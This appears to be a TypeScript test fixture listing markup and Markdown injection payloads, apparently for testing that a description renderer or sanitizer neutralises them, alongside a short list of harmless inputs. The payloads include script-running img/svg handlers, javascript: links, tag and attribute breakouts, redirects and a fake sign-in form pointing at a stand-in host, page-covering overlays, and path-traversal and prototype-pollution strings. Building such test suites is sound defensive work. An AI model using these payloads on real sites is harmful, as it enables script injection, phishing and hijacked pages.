/** Texts that try to become part of a page, to run in it, or to load something into it. */

/** Runs when it becomes an element or an attribute; the browser test looks for its mark. */
const RUN = 'window.__ran=1';

const DOLLAR = '$';

/** End tags of the elements that the pages are made of: each tries to leave its place. */
const ENDS = [
  '</div>',
  '</li></ul>',
  '</ol>',
  '</dd></dl>',
  '</dt>',
  '</details>',
  '</summary>',
  '</code></pre>',
  '</a>',
  '</p>',
  '</span>',
  '</b>',
  '</section></article></main>',
  '</nav>',
  '</aside>',
  '</header>',
  '</h1>',
  '</h2>',
  '</td></tr></table>',
  '</fieldset></label>',
  '</button>',
  '</title>',
  '</script>',
  '</style>',
  '</body></html>',
].map((end) => `x${end}<img src=x onerror=${RUN}>`);

/** Start tags that would take what follows into themselves. */
const STARTS = [
  '<div id=DUPID class=cl-main>',
  '<table><tr><td>',
  '<ul><li>',
  '<dl><dt>a<dd>b',
  '<details open><summary>s',
  '<a href=/stolen>',
  '<p><b><i>',
  '<h1>h<h2>',
  '<form action=https://foreign.invalid><input name=q><button>Go</button>',
  '<select><option>',
  '<textarea>',
  '<title>',
  '<style>*{display:none}',
  '<script>',
  '<plaintext>',
  '<xmp>',
  '<noscript><p title="</noscript><img src=x onerror=window.__ran=1>">',
  '<template><img src=x onerror=window.__ran=1></template>',
  '<!--',
  '<![CDATA[',
  '<?xml',
  '<div\nclass="cl-nav',
];

/** Texts that try to leave an attribute in order to lead away, to cover the page, or to ask for a password. */
const LEADS = [
  '"><meta http-equiv="refresh" content="0;url=https://foreign.invalid/">',
  '"><style>*{display:none!important}</style>',
  '"><form action="https://foreign.invalid/"><input type=password name=p autofocus><button>Sign in</button></form>',
  '"><base href="https://foreign.invalid/">',
  `"></code></pre><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  '<div class="fixed inset-0 top-0 left-0 h-screen w-screen z-100 z-50 z-10 bg-b-1 bg-white">cover</div>',
  '<div\nclass="fixed inset-0 h-screen w-screen z-10 bg-b-1">\n\ncover\n\n</div>',
  '```x&#32;fixed&#32;inset-0&#32;h-screen&#32;w-screen&#32;z-10&#32;bg-b-1\ncover\n```',
  '```x\ffixed\finset-0\fh-screen\fw-screen\fz-10\fbg-b-1\ncover\n```',
  '<div>\n```\n<p class="fixed inset-0 h-screen w-screen z-10 bg-b-1">cover</p>\n```\n</div>',
  '[^1]\n\n[^1]:\n\n    <p class="fixed inset-0 h-screen w-screen z-10 bg-b-1">cover</p>',
];

export const PAYLOADS: readonly string[] = [
  ...ENDS,
  ...STARTS,
  ...LEADS,
  // Attributes that hold `>` or leave their quotes.
  `[x](https://a "><svg onload=${RUN}>")`,
  `[x](https://a '><svg onload=${RUN}>')`,
  `![x](/a.png "'\\"><svg onload=${RUN}>")`,
  `<abbr title="><img src=x onerror=${RUN}>">x</abbr>`,
  `<a title='"><script>${RUN}</script>' href=/x>x</a>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `\`\` "><svg/onload=${RUN}>`,
  // Link references and their titles, autolinks.
  `[x][r]\n\n[r]: https://a "><iframe src=javascript:${RUN}>"`,
  `[x][r]\n\n[r]: javascript:${RUN}`,
  `<javascript:${RUN}> <https://user:pass@foreign.invalid> https://foreign.invalid/"><svg/onload=${RUN}>`,
  '[a](//foreign.invalid) [b](\\\\foreign.invalid) [c](/\\foreign.invalid) [d](https:foreign.invalid)',
  '[a](java\tscript:x) [b](&#106;avascript:x) [c](JaVaScRiPt:x) [d](vbscript:x) [e](data:text/html,x)',
  '![a](https://foreign.invalid/a.png) ![b](//foreign.invalid/b.png) ![c](data:image/svg+xml,<svg/onload=x>)',
  `<img srcset="https://foreign.invalid/a 2x" src=/x onerror=${RUN}><td background=https://foreign.invalid>`,
  // Code, tables, headings, lists.
  `\`\`\`html\n</code></pre><svg onload=${RUN}>\n\`\`\``,
  `\`\`\`"><svg onload=${RUN}>\nx\n\`\`\``,
  `| a | <img src=x onerror=${RUN}> |\n|---|:-:|\n| \`</td>\` | [x](javascript:y) |`,
  `# </h1><svg onload=${RUN}>\n\nText\n=====\n`,
  `- [x] <li><script>${RUN}</script>\n  > </ul>`,
  // Other namespaces and templates.
  `<svg><style><img src=x onerror=${RUN}></style><a xlink:href="javascript:x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  // Entities, characters that are not seen, characters that are none.
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;svg onload=${RUN}&#62; &amp;lt;b&gt; &#x1; &#0;`,
  '\u202e\u2066evil\u200b\u200d\ufeff <b\u200b>x</b> \u061c',
  '\ud800 <b>\udc00</b> \u0000\u0001<i>\u0008</i>\u007f\u0085\u2028',
  `\u0001\uE000\uE001${DOLLAR}{x}{{x}}<%= x %>{x}`,
  // What JavaScript and components give a meaning to.
  `javascript:${RUN}`,
  `${DOLLAR}{${RUN}} \`${DOLLAR}{1}\` {{constructor}} {1+1}`,
  '__proto__',
  '../../../etc/passwd%2e%2e/..\\..',
];

/** Harmless texts that together use all that a description may hold. */
export const HARMLESS: readonly string[] = [
  'A plain text',
  'A line.\n\nA text below it.',
  'Some *text* with `code`, **bold**, ~~old~~ <kbd>K</kbd> <abbr title="t">a</abbr> [link](/x "t") https://a.test\n\n# One\n\n## Two\n\n> q\n\n> [!NOTE]\n> n\n\n- [x] a\n- b\n\n1. c\n\n---\n\n| a | b |\n|---|:-:|\n| c | d |\n\n```json\n{"a": 1, "b": true}\n```\n\n```bash\ncurl -X x # c\n```\n\n![image](/a.png "t")\n\n<details open><summary>s</summary>d</details>\n\n<dl><dt>a</dt><dd>b</dd></dl>\n\n<table><caption>c</caption><tr><td colspan=2 align=left>e</td><th>f</th></tr></table>\n\na<br>b <sub>s</sub><sup>t</sup><del>u</del><ins>v</ins><mark>w</mark><q>x</q><small>y</small><b>z</b><i>z</i><u>z</u><s>z</s><em>z</em><cite>z</cite><dfn>z</dfn><var>z</var><samp>z</samp><tt>z</tt><strike>z</strike><span>z</span>\n\n<div><p>p</p><figure><figcaption>f</figcaption></figure></div>',
];
